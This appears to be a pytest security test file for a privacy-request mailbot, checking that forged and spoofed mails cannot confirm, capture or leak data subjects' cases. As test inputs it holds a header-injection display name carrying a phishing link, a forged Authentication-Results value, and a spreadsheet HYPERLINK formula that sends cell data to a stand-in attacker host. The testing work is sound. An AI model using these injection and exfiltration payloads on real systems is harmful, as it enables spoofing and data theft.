"""Issue 19's attacks, as an outsider would make them, through the real worker.

Each test puts mails that we wrote into a Dovecot mailbox, runs ``mailbot run --once``
(intake, drafting, sending to an aiosmtpd server), lets the officer act from the command
line where the story needs him, and then checks three things: what the SMTP server
received, what the case says, and what the register says. On the first pytest pass the
database is SQLite, on the second PostgreSQL (``tests/conftest.py``).

Covered elsewhere, against real parts too: the header parser's every shape and its fuzzing
(``tests/core/test_authentication.py``, ``tests/test_fuzz.py``); reading yes and no
(``tests/core/test_confirmation.py``); login throttling, proxies and sessions before login
(``tests/web``); file permissions (``tests/test_permissions.py``).
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from markupsafe import escape

from mailbot.app import load_app
from mailbot.cli.main import cli
from mailbot.service.draft_views import attachment_content
from tests.support.configs import smtp_section
from tests.support.mails import simple
from tests.support.smtp import SmtpServer

OURS = "mx.voorbeeld.example"
TOM = "Tom Baker <tom.baker@example.com>"
SANNE = "Sanne de Vries <sanne@example.net>"
EVE = "Eve <eve@evil.example>"
COLLEAGUE = "Linda <linda@voorbeeld.example>"
CUSTOMERS = (
    "email,naam,klantnummer\n"
    "tom.baker@example.com,Tom Baker,C-1001\n"
    "sanne@example.net,Sanne de Vries,C-1003\n"
)
NEUTRAL = f"{OURS}; spf=none smtp.mailfrom=example.com; dmarc=none header.from=example.com"
PASS = f"{OURS}; spf=pass smtp.mailfrom=example.com; dmarc=pass header.from=example.com"
FAIL = f"{OURS}; spf=fail smtp.mailfrom=example.com; dmarc=fail header.from=example.com"


def invoke(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args), catch_exceptions=False)


class Office:
    """The privacy mailbox, the worker, the officer's command line and the SMTP server."""

    def __init__(self, tmp_path: Path, dovecot: Any, user: str, server: SmtpServer) -> None:
        self.dovecot, self.user, self.server = dovecot, user, server
        (tmp_path / "klanten.csv").write_text(CUSTOMERS, encoding="utf-8")
        self.config = tmp_path / "mailbot.toml"
        self.config.write_text(
            f"""\
[database]
url = "sqlite:///mailbot.db"

[imap]
host = "127.0.0.1"
port = {dovecot.port}
security = "none"
username = "{user}"
password = "secret"
timeout = 10

[organisation]
name = "Voorbeeld B.V."
officer_name = "R. de Functionaris"
addresses = ["privacy@voorbeeld.example"]
mail_service = "own"
trusted_authserv_id = "{OURS}"
automated_decisions = "geen"
transfers_outside_eea = "geen"

[intake]
forwarders = ["linda@voorbeeld.example"]

[drafts]
auto_acknowledge = true

[[sources]]
name = "klanten"
kind = "csv"
path = "klanten.csv"
email_column = "email"
name_column = "naam"
category = "Klantprofiel"
purpose = "overeenkomst"
legal_basis = "overeenkomst"
retention = "36 maanden"
recipients = ["Hosting (verwerker)"]
provided_by_subject = true
"""
            + smtp_section(server),
            encoding="utf-8",
        )

    def arrive(self, *mails: bytes) -> None:
        """Mails arrive in the privacy mailbox and the worker runs once."""
        self.arrive_at(self.user, *mails)

    def arrive_at(self, user: str, *mails: bytes) -> None:
        self.dovecot.append(user, *mails)
        self.run()

    def attachment(self, draft_id: int, name: str) -> str:
        app = load_app(self.config)
        try:
            return attachment_content(app.database, draft_id, name).decode("utf-8")
        finally:
            app.close()

    def run(self) -> None:
        result = invoke("run", "--once", "--config", str(self.config))
        assert result.exit_code == 0, result.output

    def cases(self) -> list[dict[str, Any]]:
        return list(
            json.loads(invoke("cases", "list", "--json", "--config", str(self.config)).output)
        )

    def case(self, reference: str) -> dict[str, Any]:
        shown = invoke("cases", "show", reference, "--json", "--config", str(self.config))
        return dict(json.loads(shown.output))

    def case_of(self, address: str) -> dict[str, Any]:
        (found,) = [case for case in self.cases() if case["requester"] == address]
        return self.case(found["reference"])

    def drafts(self, reference: str) -> list[dict[str, Any]]:
        listed = json.loads(invoke("drafts", "list", "--json", "--config", str(self.config)).output)
        return [draft for draft in listed if draft["case"] == reference]

    def kinds(self, reference: str, status: str = "pending") -> list[tuple[str, str]]:
        return [(d["kind"], d["to"]) for d in self.drafts(reference) if d["status"] == status]

    def approve(self, reference: str, kind: str) -> None:
        (draft,) = [
            d for d in self.drafts(reference) if d["kind"] == kind and d["status"] == "pending"
        ]
        result = invoke(
            "drafts", "approve", str(draft["id"]), "--by", "rudi", "--config", str(self.config)
        )
        assert result.exit_code == 0, result.output

    def body(self, draft_id: int) -> str:
        shown = invoke("drafts", "show", str(draft_id), "--json", "--config", str(self.config))
        return str(json.loads(shown.output)["body"])

    def register(self) -> dict[str, dict[str, Any]]:
        rows = json.loads(
            invoke("register", "export", "--format", "json", "--config", str(self.config)).output
        )
        return {row["reference"]: row for row in rows}

    def stats(self) -> dict[str, Any]:
        return dict(
            json.loads(invoke("register", "stats", "--json", "--config", str(self.config)).output)
        )

    def sent(self) -> list[tuple[str, str]]:
        """(recipient, subject) of every mail the SMTP server accepted, in order."""
        return [(r.rcpt_tos[0], str(r.message["Subject"])) for r in self.server.received]

    def sent_to(self, address: str) -> list[Any]:
        return [r.message for r in self.server.received if address in r.rcpt_tos]


@pytest.fixture
def office(tmp_path: Path, dovecot: Any, mailbox: str) -> Iterator[Office]:
    server = SmtpServer(tmp_path).start()
    yield Office(tmp_path, dovecot, mailbox, server)
    server.stop()


def events(case: dict[str, Any]) -> list[str]:
    return [event["action"] for event in case["events"]]


def ask(body: str, sender: str = TOM, results: str | None = NEUTRAL, **headers: str) -> bytes:
    """A mail a person (or someone claiming to be one) writes; ``results`` is what our own
    receiving server stamped on it."""
    if results is not None:
        headers["Authentication_Results"] = results
    return simple(body, From=sender, **headers)


# -- 1. a Message-ID chosen by somebody else ----------------------------------------------
def test_a_newsletters_message_id_in_an_outsiders_mail_captures_no_customers_request(
    office: Office,
) -> None:
    newsletter = "<nieuwsbrief-2026-11@voorbeeld.example>"
    office.arrive(
        ask(
            "Verwijder al mijn gegevens.",
            EVE,
            f"{OURS}; dmarc=pass header.from=evil.example",
            Message_ID=newsletter,
        )
    )
    office.arrive(
        ask(
            "Haal mij van jullie lijst en verwijder al mijn gegevens.",
            SANNE,
            f"{OURS}; dmarc=none header.from=example.net",
            Subject="Re: Nieuwsbrief november",
            In_Reply_To=newsletter,
            References=newsletter,
        )
    )
    sanne = office.case_of("sanne@example.net")
    eve = office.case_of("eve@evil.example")
    assert sanne["reference"] != eve["reference"]
    assert sanne["due_date"] and sanne["status"] == "awaiting_confirmation"
    assert [mail["sender"] for mail in eve["mails"]] == ["eve@evil.example"]
    assert all("Nieuwsbrief" not in mail["subject"] for mail in eve["mails"])
    # each was acknowledged at their own address, with their own reference
    assert sorted(office.sent()) == sorted([
        ("eve@evil.example", f"[{eve['reference']}] Ontvangstbevestiging van uw verzoek"),
        ("sanne@example.net", f"[{sanne['reference']}] Ontvangstbevestiging van uw verzoek"),
    ])  # fmt: skip
    assert set(office.register()) == {sanne["reference"], eve["reference"]}


# -- 2. confirming somebody else's erasure ----------------------------------------------------
def test_a_confirmation_by_subject_reference_or_own_thread_confirms_nothing(office: Office) -> None:
    # The attacker forges Tom's erasure; our server could not check Tom's domain (no DMARC).
    office.arrive(ask("Verwijder al mijn gegevens.", Message_ID="<atk-1@evil.example>"))
    (case,) = office.cases()
    reference = case["reference"]
    assert case["status"] == "awaiting_confirmation"
    # (a) the guessable reference in the subject, From Tom, and our own server says DMARC fail
    office.arrive(
        ask(
            "Ja, ik bevestig mijn verzoek.",
            results=FAIL,
            Subject=f"Re: [{reference}] Bevestigt u uw verzoek?",
        )
    )
    # (b) a reply to the attacker's own first mail, From Tom, nothing failed
    office.arrive(
        ask(
            "Ja, ik bevestig.",
            In_Reply_To="<atk-1@evil.example>",
            References="<atk-1@evil.example>",
        )
    )
    case = office.case(reference)
    assert case["status"] == "awaiting_confirmation"
    assert "confirmed" not in events(case) and events(case).count("reply_to_check") == 1
    assert case["reply_to_check"] is not None  # (a) joined by its reference, for the officer
    # (b) the attacker chose that Message-ID under Tom's address, unauthenticated: it joins
    # nothing, and Tom's mail is a case of its own
    assert len(office.cases()) == 2 and len(case["mails"]) == 2
    assert ("reply", "tom.baker@example.com") not in office.kinds(reference)
    assert office.sent() == [
        ("tom.baker@example.com", f"[{reference}] Ontvangstbevestiging van uw verzoek")
    ]
    assert office.register()[reference]["identity_method"] == "known address"


# -- 2b. "that was not me" -----------------------------------------------------------------
def confirmation_asked(office: Office) -> tuple[str, str]:
    """Tom's (unauthenticated) erasure; the officer approves the confirmation request and the
    worker sends it. The case's reference and the request's Message-ID."""
    office.arrive(ask("Verwijder al mijn gegevens.", Message_ID="<tom-1@example.com>"))
    (case,) = office.cases()
    office.approve(case["reference"], "confirmation_request")
    office.run()
    (asked,) = office.sent_to("tom.baker@example.com")[-1:]
    assert "Bevestigt u uw verzoek" in str(asked["Subject"])
    return case["reference"], str(asked["Message-ID"])


def quoted(answer: str, asked: str) -> bytes:
    """Tom's answer above the quoted confirmation request, as his mail client writes it."""
    body = (
        f"{answer}\n\nOp 3 dec. 2026 om 10:12 schreef Voorbeeld B.V. <privacy@voorbeeld.example>:\n"
        '> Heeft u dit verzoek gestuurd? Antwoord dan op deze e-mail met "Ja, ik bevestig".\n'
        '> Heeft u het niet gestuurd? Antwoord dan met "Nee, dat was ik niet"; dan doen wij\n'
        "> niets met het verzoek.\n"
    )
    return ask(
        body,
        In_Reply_To=asked,
        References=f"<tom-1@example.com> {asked}",
        Subject="Re: bevestiging",
    )


def test_a_denial_stops_the_case_and_the_register_counts_it_apart(office: Office) -> None:
    reference, asked = confirmation_asked(office)
    before = len(office.server.received)
    office.arrive(quoted("Nee, dit verzoek heb ik niet gestuurd!", asked))
    case = office.case(reference)
    assert case["denied_at"] and "denied" in events(case) and "confirmed" not in events(case)
    assert office.kinds(reference) == []  # nothing is drafted, nothing waits
    office.run()
    assert len(office.server.received) == before  # nothing more was sent
    closed = invoke(
        "cases", "close", reference, "--outcome", "not_the_person", "--config", str(office.config)
    )
    assert closed.exit_code == 0, closed.output
    row = office.register()[reference]
    assert (row["outcome"], row["identity_method"]) == ("not_the_person", "not established")
    assert office.stats()["total"]["not_the_person"] == 1


def test_the_persons_own_yes_still_confirms(office: Office) -> None:
    reference, asked = confirmation_asked(office)
    office.arrive(quoted("Ja, ik bevestig.", asked))
    case = office.case(reference)
    assert "confirmed" in events(case) and case["status"] == "ready_for_review"
    assert ("reply", "tom.baker@example.com") in office.kinds(reference)
    assert office.register()[reference]["identity_method"] == "confirmed from known address"


# -- 3. the Authentication-Results reading ----------------------------------------------------
def test_a_quoted_semicolon_in_our_own_header_does_not_turn_a_fail_into_a_pass(
    office: Office,
) -> None:
    forged = (
        f'{OURS}; spf=pass smtp.mailfrom="x;dmarc=pass header.from=example.com"@evil.example; '
        "dmarc=fail header.from=example.com"
    )
    office.arrive(ask("Stuur mij een kopie van al mijn gegevens.", results=forged))
    (case,) = office.cases()
    assert (case["identity"], case["status"]) == ("spoofed", "awaiting_confirmation")
    # the forger is not at Tom's address: Tom is only asked whether he sent it; no data, no ack
    assert office.kinds(case["reference"]) == [("sender_check", "tom.baker@example.com")]
    assert office.sent() == []
    assert office.register()[case["reference"]]["identity_method"] == "not established"


def test_a_dmarc_pass_for_another_domain_or_two_senders_is_not_authenticated(
    office: Office,
) -> None:
    elsewhere = f"{OURS}; dmarc=pass header.from=evil.example"
    office.arrive(ask("Verwijder al mijn gegevens.", results=elsewhere))
    (case,) = office.cases()
    assert case["status"] == "awaiting_confirmation"  # confirmed first, not erased at once
    assert office.kinds(case["reference"])[-1] == ("confirmation_request", "tom.baker@example.com")
    two_senders = (
        f"Authentication-Results: {PASS}\r\nFrom: {TOM}\r\nFrom: {EVE}\r\n"
        "To: privacy@voorbeeld.example\r\nSubject: verwijderen\r\n\r\n"
        "Verwijder al mijn gegevens.\r\n"
    ).encode()
    office.arrive(two_senders)
    second = next(c for c in office.cases() if c["reference"] != case["reference"])
    assert second["identity"] == "spoofed"
    assert office.kinds(second["reference"]) == [("sender_check", "tom.baker@example.com")]
    assert [to for to, _ in office.sent()] == ["tom.baker@example.com"]  # the first case's ack


FORWARD = (
    "Zie hieronder, graag uitvoeren.\n\n---------- Forwarded message ---------\n"
    f"From: {TOM}\nDate: Mon, 30 Nov 2026 10:00:00 +0100\nSubject: verwijderen\n"
    "To: someone@example.org\n\nVerwijder al mijn gegevens.\n"
)


def test_a_forward_from_anyone_but_a_colleague_is_the_forwarders_own_mail(office: Office) -> None:
    office.arrive(
        ask(
            FORWARD, EVE, f"{OURS}; dmarc=pass header.from=evil.example", Subject="Fwd: verwijderen"
        )
    )
    (case,) = office.cases()
    assert (case["requester"], case["identity"]) == ("eve@evil.example", "unknown")
    assert office.kinds(case["reference"]) == [("identification_request", "eve@evil.example")]
    assert [to for to, _ in office.sent()] == ["eve@evil.example"]  # Tom gets nothing
    # A colleague's authenticated forward is Tom's request, confirmed at Tom's address first.
    office.arrive(
        ask(
            FORWARD,
            COLLEAGUE,
            f"{OURS}; dmarc=pass header.from=voorbeeld.example",
            Subject="Fwd: verwijderen",
        )
    )
    tom = office.case_of("tom.baker@example.com")
    assert tom["status"] == "awaiting_confirmation"
    assert tom["mails"][0]["forwarded_by"] == "linda@voorbeeld.example"
    assert ("confirmation_request", "tom.baker@example.com") in office.kinds(tom["reference"])
    # the colleague's forward, dressed up by someone outside: not the colleague's
    office.arrive(
        ask(
            FORWARD,
            COLLEAGUE,
            f"{OURS}; dmarc=fail header.from=voorbeeld.example",
            Subject="Fwd: verwijderen",
            Message_ID="<forged-forward@evil.example>",
        )
    )
    (forged,) = [c for c in office.cases() if c["requester"] == "linda@voorbeeld.example"]
    assert forged["identity"] == "spoofed"
    assert set(office.register()) == {c["reference"] for c in office.cases()}


# -- 4. the smaller ones ----------------------------------------------------------------------
def test_a_display_name_cannot_put_lines_into_a_letter_carrying_data(office: Office) -> None:
    name = base64.b64encode(b"Tom\r\nKlik hier: https://evil.example/login").decode()
    raw = (
        f"Authentication-Results: {PASS}\r\nFrom: =?utf-8?b?{name}?= <tom.baker@example.com>\r\n"
        "To: privacy@voorbeeld.example\r\nSubject: inzage\r\nMessage-ID: <dn-1@example.com>\r\n\r\n"
        "Welke gegevens hebben jullie van mij?\r\n"
    ).encode()
    office.arrive(raw)
    (case,) = office.cases()
    assert "\n" not in (case["requester_name"] or "") and "\r" not in (case["requester_name"] or "")
    office.approve(case["reference"], "reply")
    office.run()
    (reply,) = [
        m for m in office.sent_to("tom.baker@example.com") if "Uw verzoek" in str(m["Subject"])
    ]
    text = reply.get_body(("plain",)).get_content()
    assert "Tom Baker" in text.splitlines()[0]  # the name on file
    assert "evil.example" not in reply.as_string()
    assert office.register()[case["reference"]]["answered_at"]


def test_a_data_copy_lists_cases_of_its_own_mailbox_only(office: Office) -> None:
    # Two companies in one service: Tom writes to the first, then to the second.
    other = office.dovecot.add_user()
    text = office.config.read_text(encoding="utf-8")
    imap = text[text.index("[imap]") : text.index("[organisation]")]
    organisation = text[text.index("[organisation]") : text.index("[intake]")]
    boxes = "".join(
        f'[[mailboxes]]\nname = "{name}"\n'
        + imap.replace("[imap]", "[mailboxes.imap]").replace(office.user, user)
        + organisation.replace("[organisation]", "[mailboxes.organisation]")
        .replace("privacy@voorbeeld.example", f"privacy@{name}.example")
        .replace("Voorbeeld B.V.", name)
        + f'reference_prefix = "{name.upper()[:3]}"\n'
        for name, user in (("omix", office.user), ("dochter", other))
    )
    office.config.write_text(
        text.replace(imap, "").replace(organisation, "") + boxes, encoding="utf-8"
    )
    office.dovecot.append(
        office.user, ask("Ik wil inzage.", results=PASS, Subject="Geheim onderwerp bij Omix")
    )
    office.run()
    office.arrive_at(other, ask("Ik wil inzage in mijn gegevens.", results=PASS, Subject="inzage"))
    ours = next(c for c in office.cases() if c["mailbox"] == "dochter")
    (reply,) = [d for d in office.drafts(ours["reference"]) if d["kind"] == "reply"]
    own = office.attachment(reply["id"], "mailbot.csv")
    assert ours["reference"] in own
    assert "Geheim onderwerp" not in own and "OMI-" not in own


def test_spreadsheet_formulas_in_a_persons_data_are_plain_text_in_csv_only(office: Office) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
    office.arrive(ask("Stuur mij een kopie van al mijn gegevens.", results=PASS, Subject=formula))
    (case,) = office.cases()
    (reply,) = [d for d in office.drafts(case["reference"]) if d["kind"] == "reply"]
    as_csv = office.attachment(reply["id"], "mailbot.csv")
    assert "'=HYPERLINK(" in as_csv and ";=HYPERLINK(" not in as_csv
    # the overview (HTML, escaped) shows the text as it is (access: no JSON)
    assert str(escape(formula)) in office.attachment(reply["id"], "overzicht.html")
    exported = invoke("register", "export", "--config", str(office.config)).output
    assert all(
        not cell.startswith(("=", "+", "@"))
        for line in exported.splitlines()
        for cell in line.split(",")
    )


def test_a_new_contact_address_gets_nothing_before_the_old_one_confirms(office: Office) -> None:
    office.arrive(ask("Mijn e-mailadres is veranderd. Wilt u het wijzigen in tom@nieuw.example?"))
    (case,) = office.cases()
    assert "rectification" in case["rights"] and case["status"] == "awaiting_confirmation"
    assert office.kinds(case["reference"])[-1] == ("confirmation_request", "tom.baker@example.com")
    assert all(to != "tom@nieuw.example" for _, to in office.kinds(case["reference"]))
    assert [to for to, _ in office.sent()] == ["tom.baker@example.com"]
    assert office.register()[case["reference"]]["answered_at"] is None


def test_the_officers_reply_to_an_outsider_does_not_settle_the_persons_case(
    office: Office,
) -> None:
    # Eve knows Tom's case reference and the Message-ID of Tom's request (she forged it) and
    # writes with both; the officer answers her from his own mail client.
    office.config.write_text(
        office.config.read_text(encoding="utf-8") + "[mail_client]\npoll_interval = 5\n",
        encoding="utf-8",
    )
    office.arrive(
        ask("Welke gegevens hebben jullie van mij?", results=PASS, Message_ID="<t-1@example.com>")
    )
    (case,) = office.cases()
    reference = case["reference"]
    office.arrive(
        ask(
            "Heeft u mijn verzoek al behandeld?",
            EVE,
            f"{OURS}; dmarc=pass header.from=evil.example",
            Subject=f"Re: [{reference}] inzage",
            References="<t-1@example.com>",
        )
    )
    assert len(office.cases()) == 2  # Eve's mail did not join Tom's case
    answer = (
        "From: Privacy <privacy@voorbeeld.example>\r\nTo: eve@evil.example\r\n"
        f"Subject: Re: [{reference}] inzage\r\nReferences: <t-1@example.com>\r\n"
        "Message-ID: <officer-1@voorbeeld.example>\r\n\r\nUw gegevens vindt u in de bijlage.\r\n"
    ).encode()
    client = office.dovecot.client(office.user)
    try:
        if not client.folder_exists("Sent"):
            client.create_folder("Sent")
        client.append("Sent", answer)
    finally:
        client.logout()
    office.run()
    case = office.case(reference)
    assert ("reply", "tom.baker@example.com") in office.kinds(reference)  # still waiting
    assert case["answered_at"] is None and case["status"] == "ready_for_review"
    assert "sent_by_officer" not in events(case) and "officer_mail" in events(case)
    assert office.register()[reference]["answered_at"] is None
    assert [to for to, _ in office.sent()] == ["tom.baker@example.com", "eve@evil.example"]


# -- found in review ------------------------------------------------------------------------
def test_a_reply_to_the_acknowledgement_or_a_fresh_yes_confirms_nothing(office: Office) -> None:
    # Eve forges Tom's erasure; the acknowledgement goes out on its own, the confirmation
    # request waits for the officer. Tom answers the acknowledgement about something else,
    # then (authenticated) writes a fresh "yes" with the reference.
    office.arrive(ask("Verwijder al mijn gegevens."))
    (case,) = office.cases()
    reference = case["reference"]
    (ack,) = office.sent_to("tom.baker@example.com")
    acknowledgement = str(ack["Message-ID"])
    office.arrive(
        ask(
            "Bedankt. Klopt, ik had jullie vorige maand ook al gemaild over mijn abonnement.",
            results=PASS,
            In_Reply_To=acknowledgement,
            References=acknowledgement,
        )
    )
    office.arrive(ask("Ja, ik bevestig.", results=PASS, Subject=f"[{reference}] bevestiging"))
    case = office.case(reference)
    assert "confirmed" not in events(case) and case["status"] == "awaiting_confirmation"
    assert ("reply", "tom.baker@example.com") not in office.kinds(reference)
    assert case["reply_to_check"] is not None  # the fresh yes is shown to the officer
    assert office.register()[reference]["identity_method"] == "known address"


@pytest.mark.parametrize("forged", [FAIL, NEUTRAL])
def test_a_message_id_a_forger_chose_under_someones_address_captures_nothing(
    office: Office, forged: str
) -> None:
    newsletter = "<nieuwsbrief-2026-03@voorbeeld.example>"
    office.arrive(ask("Verwijder al mijn gegevens.", results=forged, Message_ID=newsletter))
    (case,) = office.cases()
    office.arrive(
        ask(
            "Ja graag, schrijf mij uit van deze nieuwsbrief en stuur mij een kopie van mijn "
            "gegevens.",
            results=PASS,
            Subject="Re: Nieuwsbrief maart",
            In_Reply_To=newsletter,
            References=newsletter,
        )
    )
    assert len(office.cases()) == 2  # Tom's own request: a case of its own, with its clock
    forged_case = office.case(case["reference"])
    assert "confirmed" not in events(forged_case) and len(forged_case["mails"]) == 1
    own = next(c for c in office.cases() if c["reference"] != case["reference"])
    assert own["due_date"] and "access" in own["rights"]
    assert set(office.register()) == {case["reference"], own["reference"]}
